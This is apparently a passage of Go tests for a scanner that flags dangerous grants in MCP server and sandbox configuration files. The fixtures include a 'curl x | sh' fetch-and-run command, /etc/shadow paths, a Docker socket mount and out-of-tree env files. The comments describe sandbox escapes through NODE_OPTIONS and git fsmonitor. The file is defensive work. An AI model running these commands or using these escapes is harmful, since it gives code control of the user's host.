			".env", "\ufeffPATH=./bin\rA=1\r\n", []string{"env PATH=./bin", "env A=1", "host env PATH=./bin loud"}},
	} {
		e := only(t, tc.path, tc.cfg)
		var file *Grant
		for i := range e.Grants {
			if e.Grants[i].Kind == GEnvFile {
				file = &e.Grants[i]
			}
		}
		if file == nil || file.File != tc.file || file.Loud {
			t.Errorf("%s: env file grant %+v, want File %q", tc.name, file, tc.file)
			continue
		}
		got := grantSet(Entry{Grants: e.EnvFileGrants(*file, []byte(tc.data))})
		if len(got) != len(tc.want) {
			t.Errorf("%s: %v, want %q", tc.name, got, tc.want)
		}
		for _, w := range tc.want {
			if !got[w] {
				t.Errorf("%s: no %q in %v", tc.name, w, got)
			}
		}
	}
	for _, p := range []string{"/etc/shadow", "../../etc/shadow", `C:\secrets.env`} {
		e := only(t, ".mcp.json", `{"mcpServers": {"s": {"command": "docker", "args": ["run", "--env-file", `+strconv.Quote(p)+`, "img"]}}}`)
		for _, g := range e.Grants {
			if g.Kind == GEnvFile && (!g.Loud || g.File != "") {
				t.Errorf("%s: %+v, want loud with no File", p, g)
			}
		}
	}
}

// TestLongValuesKeepTheirKey: a value a grant quotes in its key (a
// command input, an srt setting the reader does not know, a docker env
// value that is no string) is cut for display, and what is cut still
// tells the values apart: a change past the cut (the args of a command
// input: which task runs) read as no change and kept its approval.
func TestLongValuesKeepTheirKey(t *testing.T) {
	t.Parallel()
	pad := strings.Repeat("a", 220)
	for _, c := range []struct{ name, path, cfg string }{
		{"command input", ".vscode/mcp.json", `{"inputs": [{"id": "t", "type": "command", "command": "workbench.action.tasks.runTask", "args": "` + pad + `%s"}], "servers": {"s": {"command": "node", "env": {"T": "${input:t}"}}}}`},
		{"srt setting", ".mcp.json", `{"mcpServers": {"s": {"command": "srt", "args": ["-s", "srt.json", "node"]}}}`},
		{"env value", ".mcp.json", `{"mcpServers": {"s": {"command": "docker", "args": ["run", "img"], "env": {"DOCKER_HOST": {"v": "` + pad + `%s"}}}}}`},
	} {
		keys := map[string]bool{}
		for _, end := range []string{"safe", "evil"} {
			var gs []Grant
			if c.name == "srt setting" {
				e := only(t, c.path, c.cfg)
				var err error
				if gs, err = e.SettingsGrants(ClaudeCode, []byte(`{"futureSetting": "`+pad+end+`"}`)); err != nil {
					t.Fatal(err)
				}
			} else {
				gs = only(t, c.path, fmt.Sprintf(c.cfg, end)).Grants
			}
			var k []string
			for _, g := range gs {
				if strings.Contains(g.Key, "aaaa") {
					k = append(k, g.Key)
					if !utf8.ValidString(g.Key) || len(g.Key) > 400 {
						t.Errorf("%s: key %q: want valid UTF-8, cut short", c.name, g.Key)
					}
				}
			}
			if len(k) == 0 {
				t.Fatalf("%s: no grant quotes the value: %v", c.name, gs)
			}
			keys[strings.Join(k, "\n")] = true
		}
		if len(keys) != 2 {
			t.Errorf("%s: values that differ past the cut give the same keys %v", c.name, keys)
		}
	}
}

// TestNpxPackageFlag: `npx -p PKG CMD` runs CMD with PKG installed, not
// PKG's program: srt named by -p or --package is not what runs, the
// command after it is (bash on the host read as an srt entry was a quiet
// "cannot be judged" row, not loud).
func TestNpxPackageFlag(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		args string
		kind Kind
		runs string
		loud bool
	}{
		{`["-y", "-p", "@anthropic-ai/sandbox-runtime", "bash", "-c", "curl x | sh"]`, Shell, "bash -c curl x | sh", true},
		{`["--package", "@anthropic-ai/sandbox-runtime@1.0", "node", "s.js"]`, Bare, "node", true},
		{`["-p", "@anthropic-ai/sandbox-runtime", "srt", "-s", "srt.json", "node", "s.js"]`, Srt, "node", false},
		{`["-y", "@anthropic-ai/sandbox-runtime", "-s", "srt.json", "node", "s.js"]`, Srt, "node", false},
	} {
		e := only(t, ".mcp.json", `{"mcpServers": {"s": {"command": "npx", "args": `+c.args+`}}}`)
		loud := false
		for _, g := range e.Grants {
			loud = loud || (g.Kind == GHost && g.Loud)
		}
		if e.Kind != c.kind || !strings.HasPrefix(e.Runs, c.runs) || loud != c.loud {
			t.Errorf("%s: %s runs %q loud %t, want %s runs %q loud %t", c.args, e.Kind, e.Runs, loud, c.kind, c.runs, c.loud)
		}
	}
}

// TestBareMapSkipsOthers: a .mcp.json without mcpServers is a bare map of
// servers, as VS Code reads it, and so is a plugin's servers file: a value
// that is no server (a "$schema" string, null, an object with neither
// command nor url) is skipped and hides none of its neighbours
// (parseWorkspaceRootMcpConfiguration, resolveMcpServersMap). Such a
// value made the whole file hold no server: a Docker socket mounted there
// read as the server removed, and passed.
func TestBareMapSkipsOthers(t *testing.T) {
	t.Parallel()
	const src = `{"$schema": "https://x/s.json", "version": 2, "bad": null, "meta": {"owner": "me"},
	  "x": {"command": "docker", "args": ["run", "-v", "/var/run/docker.sock:/s", "img"]},
	  "r": {"url": "https://example.com/mcp"}}`
	names := func(es []Entry) string {
		var out []string
		for _, e := range es {
			out = append(out, e.Name+" "+string(e.Kind))
		}
		return strings.Join(out, ", ")
	}
	cfg, err := Parse(".mcp.json", []byte(src))
	if err != nil {
		t.Fatal(err)
	}
	if got := names(cfg.Entries); got != "r remote, x docker" {
		t.Errorf(".mcp.json: entries %q, want r and x", got)
	}
	plug, err := Parse("p/.claude-plugin/plugin.json", []byte(`{"mcpServers": "./s.json"}`))
	if err != nil || len(plug.Entries) != 1 {
		t.Fatalf("%v %+v", err, plug)
	}
	es, err := plug.Entries[0].PluginServers([]byte(src))
	if err != nil {
		t.Fatal(err)
	}
	if got := names(es); got != "x docker, r remote" && got != "r remote, x docker" {
		t.Errorf("plugin servers file: entries %q, want r and x", got)
	}
	for _, none := range []string{`{}`, `{"name": "n", "version": "1"}`, `{"a": {"type": "stdio"}}`} {
		if cfg, err := Parse(".mcp.json", []byte(none)); err != nil || len(cfg.Entries) != 0 {
			t.Errorf("%s: %v %+v, want no server", none, err, cfg)
		}
	}
}

// TestSrtSettingsOff: the srt keys that turn a whole rule set off are
// host control, as the widest rule of each is: filesystem.disabled
// enforces no filesystem rule (every host file writable, srt's own write
// protections off: sandbox-config.ts FilesystemConfigSchema), as an
// allowWrite of / is; network.allowAllDomains reaches every domain, the
// cloud metadata service's included, which is loud in allowedDomains;
// allowAppleEvents lets the server launch applications unsandboxed on
// macOS (the schema's words); allowGitConfig lets it write .git/config,
// whose core.fsmonitor runs on the host at the user's next git command.
// Each was a raw grant, widened but not loud: fail-on loud passed it.
func TestSrtSettingsOff(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct{ src, want string }{
		{`{"filesystem": {"disabled": true, "denyRead": [], "allowWrite": [], "denyWrite": []}}`, "host filesystem.disabled loud"},
		{`{"network": {"allowAllDomains": true, "allowedDomains": [], "deniedDomains": []}}`, "host network.allowAllDomains loud"},
		{`{"filesystem": {"disabled": false, "denyRead": [], "allowWrite": [], "denyWrite": []}, "network": {"allowAllDomains": false}}`, ""},
		{`{"filesystem": {"disabled": "yes"}}`, "raw filesystem.disabled = \"yes\""},
		{`{"allowAppleEvents": true}`, "host allowAppleEvents loud"},
		{`{"filesystem": {"allowGitConfig": true, "denyRead": [], "allowWrite": ["."], "denyWrite": []}}`, "host filesystem.allowGitConfig loud"},
		{`{"allowAppleEvents": false}`, ""},
	} {
		gs, err := SrtSettings(ClaudeCode, "srt.json", []byte(tc.src))
		if err != nil {
			t.Fatal(err)
		}
		set := grantSet(Entry{Grants: gs})
		if tc.want == "" && len(set) != 0 || tc.want != "" && !set[tc.want] {
			t.Errorf("%s: grants %v, want %q", tc.src, set, tc.want)
		}
	}
}

// TestLauncherEnvFileOutsideTree: a client's envFile sets the launcher's
// own environment (docker's or podman's CLI, bwrap, srt), where LD_PRELOAD,
// PATH, NODE_OPTIONS or DOCKER_CONFIG are host control when the file is
// the repository's; a file outside the repository holds whatever the host
// has there, a path the sandboxed server may write included (/tmp/x.env
// with NODE_OPTIONS=--require … runs its script in srt, outside the
// sandbox, at the next start). It was widened but not loud; a bare server
// is loud anyway.
func TestLauncherEnvFileOutsideTree(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name, path, src string
		loud            bool
	}{
		{"docker, absolute", ".vscode/mcp.json", `{"servers": {"s": {"command": "docker", "args": ["run", "img"], "envFile": "/tmp/x.env"}}}`, true},
		{"vscode sandbox, absolute", ".vscode/mcp.json", `{"servers": {"s": {"command": "node", "args": ["s.js"], "sandboxEnabled": true, "envFile": "/tmp/x.env"}}}`, true},
		{"srt, above the root", ".cursor/mcp.json", `{"mcpServers": {"s": {"command": "srt", "args": ["-s", "srt.json", "node"], "envFile": "../x.env"}}}`, true},
		{"bwrap, a variable", ".mcp.json", `{"mcpServers": {"s": {"command": "bwrap", "args": ["--ro-bind", "/usr", "/usr", "node"], "envFile": "${ENVF}"}}}`, true},
		{"in the tree", ".vscode/mcp.json", `{"servers": {"s": {"command": "docker", "args": ["run", "img"], "envFile": "${workspaceFolder}/.env"}}}`, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			e := only(t, tc.path, tc.src)
			for _, g := range e.Grants {
				if g.Kind == GEnvFile && g.Loud != tc.loud {
					t.Errorf("envFile %s: loud %v, want %v (%s)", g.Key, g.Loud, tc.loud, g.Why)
				}
			}
		})
	}
}
